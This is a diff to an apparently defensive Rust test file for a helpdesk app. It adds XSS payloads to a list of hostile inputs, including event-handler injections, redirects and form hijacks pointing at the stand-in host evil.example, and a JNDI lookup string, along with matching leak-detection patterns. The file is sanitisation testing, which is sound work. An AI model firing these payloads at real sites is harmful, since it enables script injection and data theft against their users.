@@ -5,7 +5,7 @@ use helpdesk::Ask;
 use super::room::{ANNA, BORIS, Room, VERA, said};
 
 /// What people write when they mean harm, or paste carelessly.
-const BAD: [&str; 36] = [
+const BAD: [&str; 62] = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     "\"><svg onload=alert(1)>",
@@ -42,6 +42,32 @@ const BAD: [&str; 36] = [
     "\u{fffd}\u{ffff}",
     "ﷺ",
     "<a href=\"javascript:alert(1)\">x</a>",
+    "<iframe src=//evil.example></iframe>",
+    "<math><mtext><table><mglyph><style><img src=x>",
+    "<svg><set attributeName=onload to=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<body onload=alert(1)>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><button>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<template><script>x</script></template>",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "' onmouseover='alert(1)",
+    "`onmouseover=alert(1)`",
+    "JaVaScRiPt:alert(1)",
+    "java\u{ad}script:alert(1)",
+    "http://example.org/<script>",
+    "https://example.org/?a=1&b=\"<x>",
+    "https://user:pass@example.org\u{202e}",
+    "mailto:a@example.org?subject=<b>",
+    "a@example.org\"onclick=\"x",
+    "\\u003cscript\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "${jndi:ldap://evil.example/a}",
+    "\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}z\u{489}\u{488}",
 ];
 
 /// Whether markup that somebody wrote has become markup of the page.
@@ -57,6 +83,19 @@ fn leaks(page: &str) -> Option<&'static str> {
         "href=\"javascript",
         "href=\"data:",
         "href=\"vbscript",
+        "<iframe",
+        "<math",
+        "<svg><set",
+        "ontoggle=alert(1)>",
+        "<input autofocus",
+        "<body onload",
+        "<base",
+        "<meta http-equiv=refresh",
+        "<form action=//",
+        "<style",
+        "<template",
+        "\" autofocus onfocus",
+        "' onmouseover='",
         ">49<",
         "<!--",
     ];
